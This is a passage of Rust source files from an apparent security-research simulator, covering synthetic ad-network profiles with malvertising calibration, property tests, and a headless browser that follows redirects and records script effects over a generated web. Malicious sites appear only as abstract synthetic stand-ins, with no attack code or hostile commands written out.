pub use network::{AdNetwork, Creative, Flight};
pub use params::{profile, AdNetProfile, PROFILES};
pub use setup::{build_ad_network, build_all_networks, PREMIUM_HOSTS};
