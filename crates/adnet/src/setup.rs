//! Wires an [`AdNetwork`] to the synthetic web: installs its creative
//! inventory and calibrates rotation weights so the impression stream
//! lands on the profile's malice marginals.

use rand::Rng;

use slum_websim::build::{BenignOptions, MaliciousOptions, WebBuilder};
use slum_websim::{ContentCategory, JsAttack, MaliceKind, Url};

use crate::network::{AdNetwork, Creative, Flight};
use crate::params::AdNetProfile;

/// Premium direct-deal publishers every network pads its reporting
/// with — the popular-referral analog of the exchanges' Google /
/// Facebook / YouTube set. Installed once; shared across networks.
pub const PREMIUM_HOSTS: [&str; 3] =
    ["news.premium.example", "sports.premium.example", "weather.premium.example"];

/// Fraction of crawl wall-time covered by malvertising flights, and the
/// malice share inside a flight. Same calibration scheme as the
/// exchange substrate's campaign bursts: flight mass is carved out of
/// the static malice fraction so the time-average still lands on the
/// profile's `malicious_fraction`.
const FLIGHT_TIME_SHARE: f64 = 0.08;
const FLIGHT_MALICE_SHARE: f64 = 0.85;

/// Malicious creative archetypes guaranteed at small inventory scales,
/// so the ad-chain flavors (redirect trees, rotating redirectors,
/// hidden-iframe landings) are always represented. Taken in order up to
/// the profile's malicious-creative budget; weights are in units of the
/// base malicious weight.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum ForcedCreative {
    /// Ad-chain redirect: the click-through bounces through `hops`
    /// third-party ad servers before the landing page.
    Chain(u32),
    /// Rotating redirector that round-robins landing offers.
    Rotor,
    /// Landing page with a hidden-iframe drive-by.
    HiddenIframe,
    /// Plain blacklisted landing domain.
    Blacklisted,
    /// Uncategorized malicious landing.
    Misc,
}

/// Builds an ad network from its profile.
///
/// * `domain_scale` scales the creative inventory (1.0 = full size).
/// * `planned_virtual_secs` is the expected virtual duration of the
///   crawl; malvertising flights are placed inside it.
///
/// Weight calibration matches the exchange substrate: with `M`
/// malicious and `B` benign creatives and a target malicious impression
/// fraction `f`, benign creatives get weight 1 and malicious creatives
/// weight `f·B / ((1−f)·M)` (after carving out the flight mass).
pub fn build_ad_network(
    builder: &mut WebBuilder,
    profile: &AdNetProfile,
    domain_scale: f64,
    planned_virtual_secs: u64,
) -> AdNetwork {
    let n_creatives = ((profile.creatives as f64 * domain_scale).round() as usize).max(10);
    let budget = ((n_creatives as f64 * profile.malicious_creative_fraction()).round() as usize)
        .clamp(2, n_creatives.saturating_sub(2).max(2));
    // The ad-chain archetypes dominate: malvertising reaches its
    // payload through redirect chains far more often than exchange
    // listings do.
    let forced_plan: Vec<(ForcedCreative, f64, ContentCategory)> = vec![
        (ForcedCreative::Chain(3), 1.4, ContentCategory::Advertisement),
        (ForcedCreative::Rotor, 1.0, ContentCategory::Advertisement),
        (ForcedCreative::Blacklisted, 1.0, ContentCategory::Business),
        (ForcedCreative::HiddenIframe, 0.7, ContentCategory::Advertisement),
        (ForcedCreative::Chain(2), 0.6, ContentCategory::Entertainment),
        (ForcedCreative::Misc, 1.2, ContentCategory::Advertisement),
        (ForcedCreative::Misc, 0.8, ContentCategory::Business),
        (ForcedCreative::Chain(4), 0.4, ContentCategory::InformationTechnology),
        (ForcedCreative::Misc, 0.5, ContentCategory::Other),
    ];
    let forced: Vec<(ForcedCreative, f64, ContentCategory)> =
        forced_plan.into_iter().take(budget).collect();
    let n_sampled = budget - forced.len();
    let n_benign = n_creatives.saturating_sub(budget).max(2);

    let f = profile.malicious_fraction();
    let f_static = if profile.campaign_flights > 0 {
        ((f - FLIGHT_TIME_SHARE * FLIGHT_MALICE_SHARE) / (1.0 - FLIGHT_TIME_SHARE)).max(0.005)
    } else {
        f
    };
    let forced_units: f64 = forced.iter().map(|(_, u, _)| u).sum();
    let malicious_units = n_sampled as f64 + forced_units;
    let malicious_weight = (f_static * n_benign as f64) / ((1.0 - f_static) * malicious_units);

    let mut creatives = Vec::with_capacity(n_creatives);
    for _ in 0..n_benign {
        let spec = builder.benign_site(BenignOptions::default());
        creatives.push(Creative { url: spec.url, weight: 1.0, malicious: false });
    }
    for _ in 0..n_sampled {
        let spec = builder.malicious_site(MaliciousOptions::default());
        use slum_websim::MaliceKind as Mk;
        // Rare archetypes stay rare per impression, as in the exchange
        // substrate.
        let unit = match spec.truth.malice_kind() {
            Some(Mk::MaliciousShortened) | Some(Mk::MaliciousFlash) => 0.1,
            _ => 1.0,
        };
        creatives.push(Creative { url: spec.url, weight: malicious_weight * unit, malicious: true });
    }
    for (kind, units, category) in &forced {
        let url = match kind {
            ForcedCreative::Chain(hops) => {
                builder.redirect_chain_site(*hops, slum_websim::Tld::Com, *category).url
            }
            ForcedCreative::Rotor => builder.rotating_redirector_site(3, *category).url,
            ForcedCreative::HiddenIframe => {
                builder
                    .malicious_site(MaliciousOptions {
                        kind: Some(MaliceKind::MaliciousJs(JsAttack::HiddenIframe)),
                        cloaked: Some(false),
                        category: Some(*category),
                        ..Default::default()
                    })
                    .url
            }
            ForcedCreative::Blacklisted => {
                builder
                    .malicious_site(MaliciousOptions {
                        kind: Some(MaliceKind::Blacklisted),
                        category: Some(*category),
                        ..Default::default()
                    })
                    .url
            }
            ForcedCreative::Misc => {
                builder
                    .malicious_site(MaliciousOptions {
                        kind: Some(MaliceKind::Misc),
                        category: Some(*category),
                        ..Default::default()
                    })
                    .url
            }
        };
        creatives.push(Creative { url, weight: malicious_weight * units, malicious: true });
    }

    let home = builder.exchange_home(profile.host).url;
    let premium: Vec<Url> =
        PREMIUM_HOSTS.iter().map(|h| builder.popular_site(h).url).collect();

    let mut network = AdNetwork::new(
        profile.name,
        home,
        premium,
        creatives,
        profile.self_fraction(),
        profile.premium_fraction(),
        profile.min_surf_secs,
    );

    // Place the malvertising flights across the middle 80% of the crawl
    // window, each boosting one full-weight malicious creative.
    if profile.campaign_flights > 0 {
        let flights = profile.campaign_flights as u64;
        let flight_total = (planned_virtual_secs as f64 * FLIGHT_TIME_SHARE) as u64;
        let flight_len = (flight_total / flights).max(60);
        let malicious_urls: Vec<Url> = network
            .creatives()
            .iter()
            .filter(|c| c.malicious && c.weight >= malicious_weight * 0.9)
            .map(|c| c.url.clone())
            .collect();
        let total_static: f64 = n_benign as f64 + malicious_units * malicious_weight;
        let boost = total_static * FLIGHT_MALICE_SHARE / (1.0 - FLIGHT_MALICE_SHARE);
        for i in 0..flights {
            let center = planned_virtual_secs / 10
                + (i * 2 + 1) * (planned_virtual_secs * 8 / 10) / (2 * flights);
            let start = center.saturating_sub(flight_len / 2);
            let target =
                malicious_urls[builder.rng().gen_range(0..malicious_urls.len())].clone();
            network.schedule_flight(Flight { target, start, end: start + flight_len, boost });
        }
    }
    network
}

/// Convenience: builds all four modeled networks into one web.
pub fn build_all_networks(
    builder: &mut WebBuilder,
    domain_scale: f64,
    planned_virtual_secs: u64,
) -> Vec<AdNetwork> {
    crate::params::PROFILES
        .iter()
        .map(|p| build_ad_network(builder, p, domain_scale, planned_virtual_secs))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::params::profile;
    use slum_exchange::TrafficSource;
    use slum_websim::rng::seeded;

    #[test]
    fn inventory_respects_creative_malice_fraction() {
        let mut b = WebBuilder::new(60);
        let p = profile("AdRotor").unwrap();
        let net = build_ad_network(&mut b, p, 0.05, 100_000);
        let malicious = net.creatives().iter().filter(|c| c.malicious).count();
        let frac = malicious as f64 / net.creatives().len() as f64;
        assert!(
            (frac - p.malicious_creative_fraction()).abs() < 0.05,
            "creative malice fraction {frac} vs {}",
            p.malicious_creative_fraction()
        );
    }

    #[test]
    fn impression_malice_fraction_matches_profile() {
        let mut b = WebBuilder::new(61);
        let p = profile("ClickNimbus").unwrap();
        let mut net = build_ad_network(&mut b, p, 0.05, 100_000);
        let malicious_hosts: std::collections::BTreeSet<String> = net
            .creatives()
            .iter()
            .filter(|c| c.malicious)
            .map(|c| c.url.host().to_string())
            .collect();
        let mut rng = seeded(19);
        let (mut regular, mut malicious) = (0u64, 0u64);
        for t in 0..30_000u64 {
            let step = net.next_step(t, &mut rng);
            let host = step.url.host().to_string();
            if host == p.host || PREMIUM_HOSTS.contains(&host.as_str()) {
                continue;
            }
            regular += 1;
            if malicious_hosts.contains(&host) {
                malicious += 1;
            }
        }
        let frac = malicious as f64 / regular as f64;
        assert!(
            (frac - p.malicious_fraction()).abs() < 0.03,
            "impression malice {frac} vs {}",
            p.malicious_fraction()
        );
    }

    #[test]
    fn every_network_gets_flights_inside_the_window() {
        let mut b = WebBuilder::new(62);
        let span = 150_000;
        for net in build_all_networks(&mut b, 0.05, span) {
            assert!(!net.flights().is_empty(), "{}", TrafficSource::name(&net));
            for f in net.flights() {
                assert!(f.end <= span, "flight [{}, {}) outside window", f.start, f.end);
            }
        }
    }

    #[test]
    fn all_four_build_with_population() {
        let mut b = WebBuilder::new(63);
        let nets = build_all_networks(&mut b, 0.02, 50_000);
        assert_eq!(nets.len(), 4);
        let web = b.finish();
        assert!(web.len() > 50, "population installed: {}", web.len());
        for net in &nets {
            assert!(!net.creatives().is_empty());
        }
    }
}
