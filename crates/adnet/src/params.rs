//! Per-network calibration profiles for the ad-network substrate.
//!
//! The exchanges carry the paper's measured Table I / Table II
//! marginals; ad networks have no published analog, so these profiles
//! are synthetic but shaped by the same intuition the paper closes
//! with: low-quality ad inventory carries a malice rate comparable to
//! the dirtier exchanges, while premium-leaning networks look more
//! like the cleaner ones.

use serde::{Deserialize, Serialize};

use slum_exchange::ExchangeKind;

/// Calibration profile of one ad network.
///
/// Counts are "paper-scale" volumes consumed at the study's crawl and
/// domain scales, mirroring how [`slum_exchange::ExchangeProfile`]
/// carries Table I / Table II values; fractions are derived by the
/// accessors so rounding stays in one place.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct AdNetProfile {
    /// Network display name.
    pub name: &'static str,
    /// Simulated ad-server host (interstitials and landing pages).
    pub host: &'static str,
    /// Pacing class. Programmatic ad rotation is passive, so every
    /// network is [`ExchangeKind::AutoSurf`].
    pub kind: ExchangeKind,
    /// Impressions served over a full-scale crawl.
    pub urls_crawled: u64,
    /// Impressions landing on the network's own interstitial pages.
    pub self_impressions: u64,
    /// Impressions filled by premium direct-deal publishers.
    pub premium_impressions: u64,
    /// Malicious impressions among regular (creative) impressions.
    pub malicious_urls: u64,
    /// Creative inventory size (the domain-pool analog).
    pub creatives: u64,
    /// Creatives running malicious campaigns.
    pub malicious_creatives: u64,
    /// Minimum dwell on a landing page, in virtual seconds (ad
    /// verification loads are quick compared to surfbar rotations).
    pub min_surf_secs: u32,
    /// Malvertising flights (time-boxed campaign buys) over the crawl
    /// window.
    pub campaign_flights: u32,
}

impl AdNetProfile {
    /// Regular impressions (served creatives).
    pub fn regular_urls(&self) -> u64 {
        self.urls_crawled - self.self_impressions - self.premium_impressions
    }

    /// Fraction of impressions hitting the network's own pages.
    pub fn self_fraction(&self) -> f64 {
        self.self_impressions as f64 / self.urls_crawled as f64
    }

    /// Fraction of impressions filled by premium publishers.
    pub fn premium_fraction(&self) -> f64 {
        self.premium_impressions as f64 / self.urls_crawled as f64
    }

    /// Fraction of regular impressions that are malicious.
    pub fn malicious_fraction(&self) -> f64 {
        self.malicious_urls as f64 / self.regular_urls() as f64
    }

    /// Fraction of creatives running malicious campaigns.
    pub fn malicious_creative_fraction(&self) -> f64 {
        self.malicious_creatives as f64 / self.creatives as f64
    }
}

/// The four modeled ad networks, dirtiest inventory first.
pub const PROFILES: [AdNetProfile; 4] = [
    AdNetProfile {
        name: "AdRotor",
        host: "adrotor.adnet.example",
        kind: ExchangeKind::AutoSurf,
        urls_crawled: 188_000,
        self_impressions: 9_400,
        premium_impressions: 15_040,
        malicious_urls: 57_200,
        creatives: 3_900,
        malicious_creatives: 585,
        min_surf_secs: 8,
        campaign_flights: 3,
    },
    AdNetProfile {
        name: "ClickNimbus",
        host: "clicknimbus.adnet.example",
        kind: ExchangeKind::AutoSurf,
        urls_crawled: 152_000,
        self_impressions: 12_160,
        premium_impressions: 22_800,
        malicious_urls: 16_380,
        creatives: 2_800,
        malicious_creatives: 308,
        min_surf_secs: 6,
        campaign_flights: 2,
    },
    AdNetProfile {
        name: "PopMatrix",
        host: "popmatrix.adnet.example",
        kind: ExchangeKind::AutoSurf,
        urls_crawled: 97_000,
        self_impressions: 19_400,
        premium_impressions: 7_760,
        malicious_urls: 20_950,
        creatives: 1_450,
        malicious_creatives: 102,
        min_surf_secs: 5,
        campaign_flights: 2,
    },
    AdNetProfile {
        name: "BannerBloom",
        host: "bannerbloom.adnet.example",
        kind: ExchangeKind::AutoSurf,
        urls_crawled: 64_000,
        self_impressions: 5_120,
        premium_impressions: 12_800,
        malicious_urls: 3_220,
        creatives: 1_100,
        malicious_creatives: 88,
        min_surf_secs: 10,
        campaign_flights: 1,
    },
];

/// Looks a profile up by name.
pub fn profile(name: &str) -> Option<&'static AdNetProfile> {
    PROFILES.iter().find(|p| p.name == name)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fractions_are_sane() {
        for p in &PROFILES {
            assert!(p.self_fraction() + p.premium_fraction() < 1.0, "{}", p.name);
            let f = p.malicious_fraction();
            assert!(f > 0.0 && f < 0.6, "{}: {f}", p.name);
            let cf = p.malicious_creative_fraction();
            assert!(cf > 0.0 && cf < 0.2, "{}: {cf}", p.name);
            assert_eq!(p.kind, ExchangeKind::AutoSurf, "{}", p.name);
            assert!(p.campaign_flights > 0, "{}", p.name);
        }
    }

    #[test]
    fn lookup_by_name() {
        assert_eq!(profile("AdRotor").unwrap().host, "adrotor.adnet.example");
        assert!(profile("DoubleClick").is_none());
    }
}
