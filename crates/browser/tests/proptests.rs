//! Property tests for the headless browser: loads always terminate,
//! chains are bounded, href resolution is total.

use proptest::prelude::*;
use slum_browser::{session::resolve_href, Browser};
use slum_websim::build::{BenignOptions, MaliciousOptions, WebBuilder};
use slum_websim::{ContentCategory, Tld, Url};

proptest! {
    /// resolve_href is total over arbitrary href strings.
    #[test]
    fn resolve_href_total(href in ".{0,120}") {
        let page = Url::http("page.example.com", "/dir/index");
        let _ = resolve_href(&page, &href);
    }

    /// Relative hrefs always resolve onto the page host.
    #[test]
    fn relative_hrefs_stay_on_host(path in "[a-zA-Z0-9._/-]{1,40}") {
        prop_assume!(!path.starts_with("//"));
        let page = Url::http("page.example.com", "/index");
        let resolved = resolve_href(&page, &path).expect("relative resolution");
        prop_assert_eq!(resolved.host(), "page.example.com");
    }

    /// Every load over a generated web terminates with a chain no longer
    /// than the hop cap, whatever site is loaded.
    #[test]
    fn loads_terminate_within_hop_cap(seed in 0u64..150, max_hops in 1u32..6) {
        let mut b = WebBuilder::new(seed);
        let benign = b.benign_site(BenignOptions::default());
        let malicious = b.malicious_site(MaliciousOptions::default());
        let chain = b.redirect_chain_site(7, Tld::Com, ContentCategory::Business);
        let web = b.finish();
        let browser = Browser::new(&web).with_max_hops(max_hops);
        for spec in [benign, malicious, chain] {
            let load = browser.load(&spec.url);
            prop_assert!(load.redirect_count() <= max_hops + 1, "chain blew the cap");
        }
    }

    /// Loading twice with the same context yields the same HAR status
    /// chain for deterministic (non-rotating) sites.
    #[test]
    fn benign_loads_are_stable(seed in 0u64..150) {
        let mut b = WebBuilder::new(seed);
        let site = b.benign_site(BenignOptions::default());
        let web = b.finish();
        let browser = Browser::new(&web);
        let first = browser.load(&site.url);
        let second = browser.load(&site.url);
        prop_assert_eq!(first.har.status_chain(), second.har.status_chain());
        prop_assert_eq!(first.final_url, second.final_url);
    }
}
