//! The page-load pipeline: redirects → DOM → scripts → clicks.

use std::sync::Arc;

use slum_html::Document;
use slum_js::flash::SwfMovie;
use slum_js::sandbox::{Effect, JsEngine, Sandbox, SandboxReport};
use slum_js::ModuleStore;
use slum_websim::{FetchOutcome, RequestContext, SyntheticWeb, Url};

use crate::har::{HarEntry, HarLog};

/// How a hop in a redirect chain was effected.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum RedirectKind {
    /// HTTP 301/302 `Location` header.
    Http,
    /// `<meta http-equiv="refresh">`.
    MetaRefresh,
    /// JavaScript `window.location` assignment.
    JsLocation,
    /// URL-shortener resolution (HTTP 301 from a shortening service).
    Shortener,
}

/// One hop of a redirect chain.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RedirectHop {
    /// URL redirected from.
    pub from: Url,
    /// URL redirected to.
    pub to: Url,
    /// Mechanism.
    pub kind: RedirectKind,
}

/// A file download captured during a load.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Download {
    /// URL that served the file.
    pub url: Url,
    /// Offered file name (e.g. `flashplayer.exe`).
    pub filename: String,
}

/// Everything observed while loading one URL.
#[derive(Debug, Clone)]
pub struct LoadResult {
    /// The URL originally requested.
    pub requested_url: Url,
    /// The URL that finally served content (after all redirects).
    pub final_url: Url,
    /// Redirect chain traversed, in order.
    pub chain: Vec<RedirectHop>,
    /// Final page HTML (what the browser saw — cloaking already applied
    /// by the server according to the request context).
    pub html: Option<String>,
    /// Parsed DOM of the final page.
    pub dom: Option<Document>,
    /// Aggregated sandbox report over every executed script.
    pub js: SandboxReport,
    /// Markup injected at runtime via `document.write`, parsed.
    pub injected_dom: Option<Document>,
    /// Downloads triggered (navigations to executables, direct fetches).
    pub downloads: Vec<Download>,
    /// Pop-up windows opened by scripts or Flash.
    pub popups: Vec<Url>,
    /// SWF movies encountered on the page.
    pub swf_movies: Vec<SwfMovie>,
    /// External script URLs that were fetched and executed.
    pub external_scripts: Vec<Url>,
    /// HAR log of every request issued during the load.
    pub har: HarLog,
    /// True when the load ended in a 404 or a hop limit.
    pub failed: bool,
}

impl LoadResult {
    /// Number of redirect hops traversed before content was served.
    pub fn redirect_count(&self) -> u32 {
        self.chain.len() as u32
    }

    /// True when the initial and final URLs differ (the paper's
    /// suspicious-redirect signal).
    pub fn was_redirected(&self) -> bool {
        self.requested_url != self.final_url
    }
}

/// A headless browser bound to a synthetic web.
///
/// The browser is stateless across loads; construct once and call
/// [`Browser::load`] repeatedly.
#[derive(Debug, Clone)]
pub struct Browser<'w> {
    web: &'w SyntheticWeb,
    ctx: RequestContext,
    max_hops: u32,
    simulate_click: bool,
    clock: u64,
    js_engine: JsEngine,
    module_store: Option<Arc<dyn ModuleStore>>,
}

impl<'w> Browser<'w> {
    /// Creates a browser with the default (real-browser) request context.
    pub fn new(web: &'w SyntheticWeb) -> Self {
        Browser {
            web,
            ctx: RequestContext::browser(),
            max_hops: 8,
            simulate_click: true,
            clock: 0,
            js_engine: JsEngine::default(),
            module_store: None,
        }
    }

    /// Selects the JavaScript engine used for page scripts (the bytecode
    /// VM by default; the tree-walking interpreter as the differential
    /// oracle).
    pub fn with_js_engine(mut self, engine: JsEngine) -> Self {
        self.js_engine = engine;
        self
    }

    /// Shares a compiled-module cache across loads, so pages reusing the
    /// same packed payload compile it once. Only consulted by the
    /// [`JsEngine::Vm`] engine.
    pub fn with_module_store(mut self, store: Arc<dyn ModuleStore>) -> Self {
        self.module_store = Some(store);
        self
    }

    /// Overrides the request context (visitor country, referrer, or a
    /// scanner identity for cloaking experiments). The browser clock
    /// stays authoritative for the context's request time.
    pub fn with_context(mut self, ctx: RequestContext) -> Self {
        self.ctx = ctx;
        self.ctx.time = self.clock;
        self
    }

    /// Sets the virtual timestamp stamped into HAR entries and carried
    /// on every request (time-keyed resources such as the rotating
    /// redirector resolve against it).
    pub fn at_time(mut self, seconds: u64) -> Self {
        self.clock = seconds;
        self.ctx.time = seconds;
        self
    }

    /// Disables the automatic user-click simulation (auto-surf exchanges
    /// never click; manual-surf users do).
    pub fn without_click(mut self) -> Self {
        self.simulate_click = false;
        self
    }

    /// Sets the redirect hop cap.
    pub fn with_max_hops(mut self, max_hops: u32) -> Self {
        self.max_hops = max_hops;
        self
    }

    /// Loads `url`, following redirects and executing scripts.
    pub fn load(&self, url: &Url) -> LoadResult {
        let mut result = LoadResult {
            requested_url: url.clone(),
            final_url: url.clone(),
            chain: Vec::new(),
            html: None,
            dom: None,
            js: SandboxReport::default(),
            injected_dom: None,
            downloads: Vec::new(),
            popups: Vec::new(),
            swf_movies: Vec::new(),
            external_scripts: Vec::new(),
            har: HarLog::new(),
            failed: false,
        };
        let mut current = url.clone();
        let mut referrer = self.ctx.referrer.clone();

        // Phase 1: follow server-side redirects (302 + shortener 301 +
        // meta refresh) to the content URL.
        loop {
            if result.chain.len() as u32 > self.max_hops {
                result.failed = true;
                return result;
            }
            let ctx = self.ctx.clone().with_referrer(referrer.clone());
            let outcome = self.web.fetch(&current, &ctx);
            match outcome {
                FetchOutcome::Redirect { target, status } => {
                    self.log(&mut result.har, &current, status, "", &referrer, Some(&target));
                    let kind = if self.web.shorteners().is_shortener_host(current.host()) {
                        RedirectKind::Shortener
                    } else {
                        RedirectKind::Http
                    };
                    result.chain.push(RedirectHop {
                        from: current.clone(),
                        to: target.clone(),
                        kind,
                    });
                    referrer = current.host().to_string();
                    current = target;
                }
                FetchOutcome::Html { body } => {
                    self.log(&mut result.har, &current, 200, "text/html", &referrer, None);
                    let dom = Document::parse(&body);
                    if let Some(target_str) = dom.meta_refresh_target() {
                        if let Ok(target) = Url::parse(&target_str) {
                            result.chain.push(RedirectHop {
                                from: current.clone(),
                                to: target.clone(),
                                kind: RedirectKind::MetaRefresh,
                            });
                            referrer = current.host().to_string();
                            current = target;
                            continue;
                        }
                    }
                    result.final_url = current.clone();
                    result.html = Some(body);
                    result.dom = Some(dom);
                    break;
                }
                FetchOutcome::Download { filename } => {
                    self.log(
                        &mut result.har,
                        &current,
                        200,
                        "application/octet-stream",
                        &referrer,
                        None,
                    );
                    result.final_url = current.clone();
                    result.downloads.push(Download { url: current.clone(), filename });
                    return result;
                }
                FetchOutcome::Script { .. } | FetchOutcome::Swf { .. } => {
                    // Direct navigation to a script/swf: record and stop.
                    self.log(&mut result.har, &current, 200, "application/javascript", &referrer, None);
                    result.final_url = current.clone();
                    return result;
                }
                FetchOutcome::NotFound => {
                    self.log(&mut result.har, &current, 404, "", &referrer, None);
                    result.final_url = current.clone();
                    result.failed = true;
                    return result;
                }
            }
        }

        // Phase 2: execute scripts against the final document.
        self.run_page_scripts(&mut result);

        // Phase 3: follow at most one script-driven navigation (a JS
        // redirector) — to a download or a new page.
        if let Some(nav) = result.js.outbound_urls().first().cloned() {
            self.follow_script_navigation(&nav, &mut result);
        }
        result
    }

    /// Executes inline scripts, external scripts and Flash movies of the
    /// final page; aggregates effects into `result.js`.
    fn run_page_scripts(&self, result: &mut LoadResult) {
        let Some(dom) = result.dom.clone() else { return };
        let page_url = result.final_url.clone();
        let mut merged = SandboxReport::default();

        let mut sources: Vec<String> = Vec::new();
        // External scripts first (as they define globals pages rely on).
        for src in dom.external_script_srcs() {
            let Ok(script_url) = resolve_href(&page_url, &src) else { continue };
            match self.web.fetch(&script_url, &self.ctx) {
                FetchOutcome::Script { body } => {
                    self.log(
                        &mut result.har,
                        &script_url,
                        200,
                        "application/javascript",
                        page_url.host(),
                        None,
                    );
                    result.external_scripts.push(script_url);
                    sources.push(body);
                }
                FetchOutcome::Redirect { target, status } => {
                    // A script src that redirects (the rotating
                    // redirector): treat as a JS-level navigation.
                    self.log(&mut result.har, &script_url, status, "", page_url.host(), Some(&target));
                    result.external_scripts.push(script_url.clone());
                    merged.effects.push(Effect::Navigate { url: target.to_string() });
                }
                _ => {
                    self.log(&mut result.har, &script_url, 404, "", page_url.host(), None);
                }
            }
        }
        sources.extend(dom.inline_scripts());

        // Flash movies: parse descriptors; their ExternalInterface calls
        // become synthesized invocations appended to the glue scripts.
        let mut flash_calls: Vec<String> = Vec::new();
        for obj in dom.elements_by_tag("object").into_iter().chain(dom.elements_by_tag("embed")) {
            let Some(el) = dom.element(obj) else { continue };
            let Some(data) = el.attr("data").or_else(|| el.attr("src")) else { continue };
            let Ok(swf_url) = resolve_href(&page_url, data) else { continue };
            if let FetchOutcome::Swf { descriptor } = self.web.fetch(&swf_url, &self.ctx) {
                self.log(
                    &mut result.har,
                    &swf_url,
                    200,
                    "application/x-shockwave-flash",
                    page_url.host(),
                    None,
                );
                if let Ok(movie) = SwfMovie::parse(&descriptor) {
                    for effect in movie.load() {
                        if let Effect::ExternalCall { name, .. } = &effect {
                            flash_calls.push(name.clone());
                        }
                        merged.effects.push(effect);
                    }
                    if self.simulate_click {
                        for effect in movie.click(false) {
                            if let Effect::ExternalCall { name, .. } = &effect {
                                flash_calls.push(name.clone());
                            }
                            merged.effects.push(effect);
                        }
                    }
                    result.swf_movies.push(movie);
                }
            }
        }

        // Run all script sources in one sandbox pass so cross-script
        // definitions resolve, then invoke any Flash external-interface
        // targets against the same program text.
        let mut program = sources.join("\n;\n");
        for call in &flash_calls {
            program.push_str(&format!("\n;try {{ {call}(); }} catch (e) {{}}"));
        }
        if !program.trim().is_empty() {
            let mut sandbox = Sandbox::new()
                .with_location(page_url.to_string())
                .with_referrer(self.ctx.referrer.clone())
                .with_engine(self.js_engine);
            if let Some(store) = &self.module_store {
                sandbox = sandbox.with_module_store(store.clone());
            }
            let report = sandbox.run(&program);
            merge_reports(&mut merged, report);
        }

        // A simulated user click fires the page's registered click
        // handlers; the sandbox already force-executes listeners, so no
        // extra pass is needed — but `document.write` output must be
        // parsed for injected markup.
        if !merged.written_html.is_empty() {
            result.injected_dom = Some(Document::parse(&merged.written_html));
        }
        for url in merged.effects.iter().filter_map(|e| match e {
            Effect::Popup { url } => Url::parse(url).ok(),
            _ => None,
        }) {
            result.popups.push(url);
        }
        result.js = merged;
    }

    /// Follows a script-initiated navigation: downloads land in
    /// `downloads`, page targets add a `JsLocation` hop (without
    /// recursing into another full script pass).
    fn follow_script_navigation(&self, nav: &str, result: &mut LoadResult) {
        let Ok(target) = Url::parse(nav) else { return };
        if target.is_data() {
            return;
        }
        let from = result.final_url.clone();
        match self.web.fetch(&target, &self.ctx) {
            FetchOutcome::Download { filename } => {
                self.log(
                    &mut result.har,
                    &target,
                    200,
                    "application/octet-stream",
                    from.host(),
                    None,
                );
                result.downloads.push(Download { url: target, filename });
            }
            FetchOutcome::Html { .. } => {
                self.log(&mut result.har, &target, 200, "text/html", from.host(), None);
                result.chain.push(RedirectHop {
                    from,
                    to: target.clone(),
                    kind: RedirectKind::JsLocation,
                });
                result.final_url = target;
            }
            FetchOutcome::Redirect { target: next, status } => {
                self.log(&mut result.har, &target, status, "", from.host(), Some(&next));
                result.chain.push(RedirectHop {
                    from: from.clone(),
                    to: target.clone(),
                    kind: RedirectKind::JsLocation,
                });
                // Follow the 302 tail without re-running scripts.
                let mut current = target;
                let mut next_target = Some(next);
                while let Some(t) = next_target.take() {
                    if result.chain.len() as u32 > self.max_hops {
                        result.failed = true;
                        break;
                    }
                    result.chain.push(RedirectHop {
                        from: current.clone(),
                        to: t.clone(),
                        kind: RedirectKind::Http,
                    });
                    match self.web.fetch(&t, &self.ctx) {
                        FetchOutcome::Redirect { target: t2, status } => {
                            self.log(&mut result.har, &t, status, "", current.host(), Some(&t2));
                            current = t.clone();
                            next_target = Some(t2);
                        }
                        FetchOutcome::Download { filename } => {
                            self.log(
                                &mut result.har,
                                &t,
                                200,
                                "application/octet-stream",
                                current.host(),
                                None,
                            );
                            result.downloads.push(Download { url: t.clone(), filename });
                            result.final_url = t;
                        }
                        _ => {
                            self.log(&mut result.har, &t, 200, "text/html", current.host(), None);
                            result.final_url = t;
                        }
                    }
                }
            }
            _ => {}
        }
    }

    fn log(
        &self,
        har: &mut HarLog,
        url: &Url,
        status: u16,
        content_type: &str,
        referrer: &str,
        redirect_to: Option<&Url>,
    ) {
        har.push(HarEntry {
            started: self.clock,
            method: "GET".into(),
            url: url.to_string(),
            status,
            content_type: content_type.to_string(),
            redirect_url: redirect_to.map(|u| u.to_string()).unwrap_or_default(),
            body_size: 0,
            referrer: referrer.to_string(),
        });
    }
}

/// Resolves an href/src against the page URL: absolute URLs pass
/// through; `//host/...` inherits http; site-relative paths resolve onto
/// the page host.
pub fn resolve_href(page: &Url, href: &str) -> Result<Url, slum_websim::url::ParseUrlError> {
    if href.starts_with("http://") || href.starts_with("https://") || href.starts_with("//")
        || href.starts_with("data:")
    {
        return Url::parse(href);
    }
    Ok(page.with_path(href))
}

/// Merges `addition` into `base`, concatenating logs.
fn merge_reports(base: &mut SandboxReport, addition: SandboxReport) {
    base.effects.extend(addition.effects);
    base.written_html.push_str(&addition.written_html);
    base.errors.extend(addition.errors);
    base.steps_used += addition.steps_used;
    base.max_eval_depth = base.max_eval_depth.max(addition.max_eval_depth);
    base.vm_instructions += addition.vm_instructions;
    base.vm_module_lookups += addition.vm_module_lookups;
}

#[cfg(test)]
mod tests {
    use super::*;
    use slum_websim::build::{BenignOptions, MaliciousOptions, WebBuilder};
    use slum_websim::{ContentCategory, JsAttack, MaliceKind, Tld};

    #[test]
    fn benign_load_has_no_chain_or_effects() {
        let mut b = WebBuilder::new(100);
        let site = b.benign_site(BenignOptions::default());
        let web = b.finish();
        let load = Browser::new(&web).load(&site.url);
        assert!(!load.failed);
        assert_eq!(load.redirect_count(), 0);
        assert!(!load.was_redirected());
        assert!(load.downloads.is_empty());
        assert!(load.popups.is_empty());
        assert_eq!(load.har.status_chain(), vec![200]);
    }

    #[test]
    fn redirect_chain_followed_and_counted() {
        let mut b = WebBuilder::new(101);
        let spec = b.redirect_chain_site(4, Tld::Com, ContentCategory::Business);
        let web = b.finish();
        let load = Browser::new(&web).load(&spec.url);
        assert!(!load.failed);
        assert_eq!(load.redirect_count(), 4);
        assert!(load.was_redirected());
        // Figure 4 shape: 302s then a meta refresh.
        assert!(load.chain.iter().any(|h| h.kind == RedirectKind::MetaRefresh));
